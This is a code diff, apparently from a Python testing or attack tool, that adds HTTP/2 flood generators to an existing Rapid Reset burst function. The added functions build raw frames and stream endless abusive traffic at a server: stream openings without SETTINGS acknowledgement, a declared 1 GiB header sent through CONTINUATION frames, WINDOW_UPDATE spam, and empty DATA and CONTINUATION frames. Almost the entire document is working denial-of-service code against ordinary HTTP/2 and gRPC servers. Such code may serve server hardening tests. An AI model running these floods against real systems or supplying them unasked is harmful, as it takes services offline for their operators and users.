@@ -128,3 +128,56 @@ def rapid_reset_burst(authority, path, first_stream_id, count):
         out += struct.pack(">I", 4)[1:] + struct.pack(">BBI", 3, 0, sid) + struct.pack(">I", 8)
         sid += 2
     return bytes(out), sid
+
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+
+
+def raw_frame(ftype, flags, stream_id, payload=b""):
+    """One HTTP/2 frame as bytes (RFC 9113, section 4.1)."""
+    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", ftype, flags, stream_id) + payload
+
+
+def request_block(authority, path="/idgen.IdGen/Gen"):
+    import hpack
+    return hpack.Encoder().encode([(":method", "POST"), (":scheme", "http"), (":path", path),
+                                   (":authority", authority), ("content-type", "application/grpc"),
+                                   ("te", "trailers")])
+
+
+def flood(kind, authority):
+    """Yields the bytes of an abusive client, chunk after chunk, without end (the caller stops it):
+    no_ack (streams opened without ever acknowledging the server's SETTINGS), header_block (one
+    header block of a 1 GiB value, in CONTINUATION frames), window_update, empty_data,
+    empty_continuation (frames that carry nothing, as fast as the socket takes them)."""
+    settings, ack = raw_frame(4, 0, 0), raw_frame(4, 1, 0)
+    block = request_block(authority)
+    if kind == "no_ack":
+        yield PREFACE + settings
+        sid = 1
+        while True:
+            chunk = b"".join(raw_frame(1, 0x4 | 0x1, sid + 2 * k, block) for k in range(500))
+            sid += 1000
+            yield chunk
+    yield PREFACE + settings + ack
+    if kind == "header_block":
+        # A literal header "x" whose value is declared 1 GiB long (HPACK integer, 7-bit prefix).
+        n, value_len = (1 << 30) - 127, bytearray([0x7f])
+        while n >= 128:
+            value_len.append((n & 0x7f) | 0x80)
+            n >>= 7
+        value_len.append(n)
+        yield raw_frame(1, 0, 1, block + b"\x00\x01x" + bytes(value_len))
+        chunk = raw_frame(9, 0, 1, b"a" * 16384) * 16
+    elif kind == "window_update":
+        chunk = raw_frame(8, 0, 0, struct.pack(">I", 1)) * 2000
+    elif kind == "empty_data":
+        yield raw_frame(1, 0x4, 1, block)
+        chunk = raw_frame(0, 0, 1) * 2000
+    elif kind == "empty_continuation":
+        yield raw_frame(1, 0, 1, block[:3])
+        chunk = raw_frame(9, 0, 1) * 2000
+    else:
+        raise ValueError(kind)
+    while True:
+        yield chunk
